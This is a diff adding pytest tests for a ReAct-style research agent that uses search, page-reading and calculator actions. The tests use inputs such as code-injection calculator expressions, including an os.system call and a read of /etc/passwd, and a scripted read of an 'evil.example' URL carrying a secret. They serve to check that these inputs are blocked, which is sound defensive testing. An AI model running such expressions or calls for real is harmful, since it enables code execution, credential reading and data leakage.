@@ -1,0 +1,278 @@
+"""`react`: thought, action, pause, observation."""
+
+from __future__ import annotations
+
+import pytest
+from tests.strategies.bench import Bench, Pages, Shelf, entry, supported
+
+from wellread import events
+from wellread.budget import Limits
+from wellread.models.scripted import ScriptedModel
+from wellread.sources.several import Several
+from wellread.strategies.react import React
+from wellread.strategies.turns import Turn, read_turn
+from wellread.types import Capabilities, Completion
+
+pytestmark = pytest.mark.anyio
+
+ENGLAND = entry(
+    "England",
+    "England is a country. " + "It has many towns and rivers. " * 60,
+    url="https://wiki.example/England",
+    snippet='<span class="searchmatch">England</span> is part of the United Kingdom. It shares land borders with Wales to its '
+    "west and Scotland to its north.",
+)
+WEEKNOTES = entry(
+    "Weeknotes: more museums",
+    "<p>I landed a tiny new feature. This week I added the Pirates Museum in Antananarivo, Madagascar, to the list.</p>"
+    + "<p>More on the releases of this week.</p>" * 60,
+    url="https://blog.example/weeknotes",
+)
+
+
+def wiki(*script: object, **options: object) -> Bench:
+    sources = {"wikipedia": Shelf([ENGLAND], name="wikipedia"), "posts": Shelf([WEEKNOTES], name="datasette:blog.example")}
+    return Bench(script, sources=sources, **options)  # pyright: ignore[reportArgumentType]
+
+
+def thoughts(bench: Bench) -> list[tuple[str, str]]:
+    return [(thought.kind, thought.text) for thought in bench.of(events.Thought)]
+
+
+async def test_what_england_shares_borders_with() -> None:
+    bench = wiki(
+        "Thought: I should list the neighbours of England.\nAction: wikipedia: England\nPAUSE\nObservation: invented",
+        "Answer: England shares borders with Wales and Scotland.",
+    )
+    answer = await bench.ask(React, "What does England share borders with?")
+    assert answer.text == "England shares borders with Wales and Scotland. [1]"
+    assert supported(answer) == [True]
+    seen = thoughts(bench)
+    assert seen[0] == ("thought", "I should list the neighbours of England.")
+    assert seen[1] == ("action", "wikipedia: England")
+    assert seen[2][0] == "observation"
+    assert "<span" not in seen[2][1]
+    assert "many towns" not in seen[2][1], "a snippet, not the page"
+    second = bench.scripted.prompts[1].messages
+    assert [message.role for message in second] == ["system", "user", "assistant", "user"]
+    assert second[2].text.endswith("Action: wikipedia: England\nPAUSE")
+    assert second[3].text.startswith("Observation: [1] <data-f00dcafe>")
+    assert bench.scripted.prompts[0].stop == ("PAUSE",)
+
+
+async def test_an_invented_observation_never_counts_as_evidence() -> None:
+    bench = wiki(
+        "Thought: I can search the blog.\n\nAction: blog_search: Madagascar\n\nPAUSE",
+        "Observation: According to the blog he has visited the Pirates Museum in Antananarivo, Madagascar.\n\n"
+        "Answer: Yes, Simon has been to Madagascar and visited the Pirates Museum located in Antananarivo.",
+    )
+    answer = await bench.ask(React, "Has Simon been to Madagascar?", blog="posts")
+    assert answer.text.startswith("Yes, Simon has been")
+    assert supported(answer) == [False]
+    assert any("wrote an observation itself" in notice.message for notice in bench.of(events.Notice))
+    assert [event.passage.title for event in bench.of(events.Numbered)] == ["Weeknotes: more museums"]
+
+
+async def test_a_blog_question() -> None:
+    bench = wiki("Action: blog_search: museum\nPAUSE", "Answer: The Pirates Museum in Antananarivo was added this week. [1]")
+    answer = await bench.ask(React, "Which museum was added?", blog="posts")
+    observation = thoughts(bench)[1][1]
+    assert "<p>" not in observation
+    assert 900 < len(observation) < 1100
+    assert supported(answer) == [True]
+
+
+async def test_a_calculation_is_evidence_too() -> None:
+    bench = wiki(
+        "Thought: The action required is a calculation\nAction: calculate: 15 * 25\nPAUSE",
+        "Answer: Fifteen times twenty five equals 375.",
+    )
+    answer = await bench.ask(React, "Fifteen * twenty five")
+    assert ("observation", "[1] 15 * 25 = 375") in thoughts(bench)
+    assert answer.text == "Fifteen times twenty five equals 375. [1]"
+    assert supported(answer) == [True]
+    assert answer.citations[0].passage.source == "calculate"
+
+
+@pytest.mark.parametrize(
+    "expression", ["__import__('os').system('true')", "open('/etc/passwd')", "9**9**9**9", "().__class__", "while True: pass"]
+)
+async def test_a_dangerous_calculation_is_an_observation_and_the_run_goes_on(expression: str) -> None:
+    bench = wiki(f"Action: calculate: {expression}\nPAUSE", "Answer: NO ANSWER: it cannot be calculated")
+    answer = await bench.ask(React, "What is it?")
+    assert thoughts(bench)[1][1].startswith("error:")
+    assert answer.outcome == "unsure"
+    assert answer.reason is not None
+    assert "it cannot be calculated" in answer.reason
+
+
+async def test_an_unknown_action_lists_those_there_are() -> None:
+    bench = wiki(
+        "Action: telephone: London\nPAUSE", "Action: wikipedia:\nPAUSE", "Action: wikipedia: England\nPAUSE", "Answer: So. [1]"
+    )
+    answer = await bench.ask(React, "Who?")
+    seen = [text for kind, text in thoughts(bench) if kind == "observation"]
+    assert seen[0] == "There is no action 'telephone'. The actions are: shelf, wikipedia, read, calculate."
+    assert seen[1].startswith("wikipedia needs an input")
+    assert answer.outcome == "answered"
+
+
+async def test_every_configured_source_is_an_action_with_help_and_example() -> None:
+    source = Several([Shelf([ENGLAND], name="library"), Shelf(name="mediawiki:host"), Shelf([WEEKNOTES], name="datasette:host")])
+    bench = wiki("Action: library: England\nPAUSE", "Answer: England is a country. [1]", source=source)
+    await bench.ask(React, "What is England?")
+    system = bench.scripted.prompts[0].messages[0].text
+    for name in ("library", "wikipedia", "blog_search", "read", "calculate"):
+        assert f"- {name}: " in system
+        assert f"Action: {name}: " in system
+    assert "Look things up whenever" in system
+    assert "2026-11-15" in system
+    assert bench.source.sources[0].asked[0].text == "England"
+    assert "many towns" in thoughts(bench)[1][1]
+
+
+async def test_hits_shows_more_than_the_best() -> None:
+    shelf = Shelf([entry(f"Town {n}", f"A town, number {n}.") for n in range(5)], name="library")
+    bench = wiki("Action: library: town\nPAUSE", "Answer: Town 1 is a town. [2]", source=shelf)
+    await bench.ask(React, "Which towns?", hits=3, wikipedia="none")
+    assert len(bench.of(events.Numbered)) == 3
+    assert "wikipedia" not in bench.scripted.prompts[0].messages[0].text.partition("The actions")[2].partition("An action is")[0]
+
+
+async def test_pages_are_read_only_from_addresses_that_came_up() -> None:
+    pages = Pages({"https://wiki.example/England": ["England has 56 million people."]})
+    bench = wiki(
+        "Action: read: https://evil.example/?secret=1\nPAUSE",
+        "Action: wikipedia: England\nPAUSE",
+        "Action: read: https://wiki.example/England\nPAUSE",
+        "Answer: England has 56 million people. [2]",
+        page_reader=pages,
+    )
+    answer = await bench.ask(React, "How many people live in England?")
+    assert pages.read_urls == ["https://wiki.example/England"]
+    assert supported(answer) == [True]
+
+
+async def test_a_page_that_fails_and_a_search_that_fails_are_observations() -> None:
+    failing = {"wikipedia": Shelf(name="wikipedia", failing=lambda text: True)}
+    bench = wiki(
+        "Action: wikipedia: England\nPAUSE", "Action: read: https://gone.example/\nPAUSE", "Answer: NO ANSWER: all of it"
+    )
+    bench.sources = failing
+    answer = await bench.ask(React, "What is at https://gone.example/ ?")
+    seen = [text for kind, text in thoughts(bench) if kind == "observation"]
+    assert seen[0] == "Nothing was found. Try another term. (wikipedia: the service is down)"
+    assert seen[1] == "That page cannot be read."
+    assert answer.outcome == "unsure"
+
+
+async def test_without_an_answer_in_time_one_is_composed_from_the_observations() -> None:
+    bench = wiki(
+        *["Thought: once more.\nAction: wikipedia: England\nPAUSE"] * 3, "England shares borders with Wales and Scotland. [1]"
+    )
+    answer = await bench.ask(React, "What does England share borders with?", max_turns=3)
+    assert len(bench.scripted.prompts) == 4
+    assert bench.of(events.Decided)[0].decision == "answer from the observations"
+    assert answer.outcome == "answered"
+    assert supported(answer) == [True]
+
+
+async def test_a_model_that_ignores_the_format_is_reminded_and_gets_one_search() -> None:
+    bench = wiki(*["I am a poet."] * 2, "England is a country. [1]", source=Shelf([ENGLAND]))
+    answer = await bench.ask(React, "What is England?", max_turns=2)
+    assert "There was no action and no answer." in bench.prompt(1)
+    assert [query.text for query in bench.source.asked] == ["What is England?"]
+    assert answer.outcome == "answered"
+
+
+async def test_nothing_found_at_all() -> None:
+    bench = wiki(*["hm"] * 2)
+    answer = await bench.ask(React, "Why?", max_turns=2)
+    assert answer.outcome == "unsure"
+    assert answer.reason == "the actions found nothing; searched for “Why?”"
+
+
+async def test_an_answer_from_memory_is_marked() -> None:
+    bench = wiki("Answer: The capital of France is Paris.")
+    answer = await bench.ask(React, "What is the capital of France?")
+    assert answer.outcome == "answered"
+    assert supported(answer) == [False]
+    assert "without looking anything up" in bench.of(events.Notice)[-1].message
+
+
+async def test_a_refusal() -> None:
+    bench = wiki(Completion("No.", finish="refusal"))
+    answer = await bench.ask(React, "How?")
+    assert (answer.outcome, answer.reason) == ("unsure", "the model declined to answer")
+
+
+async def test_the_answer_streams_while_it_is_written() -> None:
+    text = "Thought: I know enough.\nAnswer: England is part of the United Kingdom and shares land borders with Wales. [1]"
+    bench = wiki("Action: wikipedia: England\nPAUSE", text, model_options={"delay": 0.002, "piece": 4})
+    calls: list[int] = []
+    bench.listener = lambda event: (
+        calls.append(len(bench.of(events.ModelCalled))) if isinstance(event, events.AnswerDelta) else None
+    )
+    await bench.ask(React, "What is England?")
+    assert calls.count(1) > 5, "the second call has not ended while its answer is shown"
+
+
+async def test_an_answer_model_of_its_own() -> None:
+    cheap = ScriptedModel(["England is a country. [1]"], name="cheap")
+    bench = wiki("Action: shelf: England\nPAUSE", "Answer: ignored", models={"cheap": cheap}, source=Shelf([ENGLAND]))
+    answer = await bench.ask(React, "What is England?", answer_model="cheap")
+    assert answer.text == "England is a country. [1]"
+
+
+async def test_searches_that_run_out() -> None:
+    bench = wiki(
+        "Action: wikipedia: England\nPAUSE",
+        "Action: wikipedia: Wales\nPAUSE",
+        "England shares borders with Wales and Scotland. [1]",
+        limits=Limits(searches=1),
+    )
+    answer = await bench.ask(React, "What does England share borders with?")
+    assert answer.outcome == "exhausted"
+    assert answer.reason == "the limit on searches is reached"
+    assert supported(answer) == [True]
+
+
+async def test_time_that_runs_out_while_answering_keeps_what_was_shown() -> None:
+    bench = wiki("Action: wikipedia: England\nPAUSE", "Answer: " + "word " * 400, limits=Limits(seconds=0.4))
+    bench.scripted.delay = 0.005
+    answer = await bench.ask(React, "What does England share borders with?")
+    assert answer.outcome == "exhausted"
+    assert answer.text.startswith("word word")
+    assert "Scotland" in answer.text
+
+
+async def test_a_small_window_never_overflows() -> None:
+    def say(prompt: object) -> str:
+        sent = bench.scripted.prompts[-1]
+        used = sum(bench.scripted.count_tokens(message.text) for message in sent.messages)
+        assert used + (sent.max_tokens or 0) <= 1600
+        return f"Action: library: town {len(bench.scripted.prompts)}\nPAUSE"
+
+    shelf = Shelf([entry(f"Town {n}", f"Town number {n} is a town. " * 60) for n in range(40)], name="library")
+    bench = Bench(say, source=shelf, model_options={"capabilities": Capabilities(1600)})
+    await bench.ask(React, "Which towns?", max_turns=8, hits=2, wikipedia="none")
+    assert any("left out" in notice.message for notice in bench.of(events.Notice))
+
+
+@pytest.mark.parametrize(
+    ("text", "turn"),
+    [
+        ("Thought: a\nAction: x: y", Turn("a", "x", "y")),
+        ("**Thought:** a\n**Action:** x: `y`", Turn("a", "x", "y")),
+        ("Action: x: y\nAction: z: w", Turn("", "x", "y")),
+        ("Action: x: y: z", Turn("", "x", "y: z")),
+        ("Action: x: y\nAnswer: made up", Turn("", "x", "y")),
+        ("Answer: b", Turn("", answer="b")),
+        ("Answer: b\nObservation: c", Turn("", answer="b\n", invented=False)),
+        ("Observation: c\nAction: x: y", Turn("", "x", "y", invented=True)),
+        ("I think of an Action: x: y", Turn("I think of an Action: x: y")),
+        ("", Turn()),
+    ],
+)
+def test_turns_are_read_tolerantly(text: str, turn: Turn) -> None:
+    assert read_turn(text) == turn
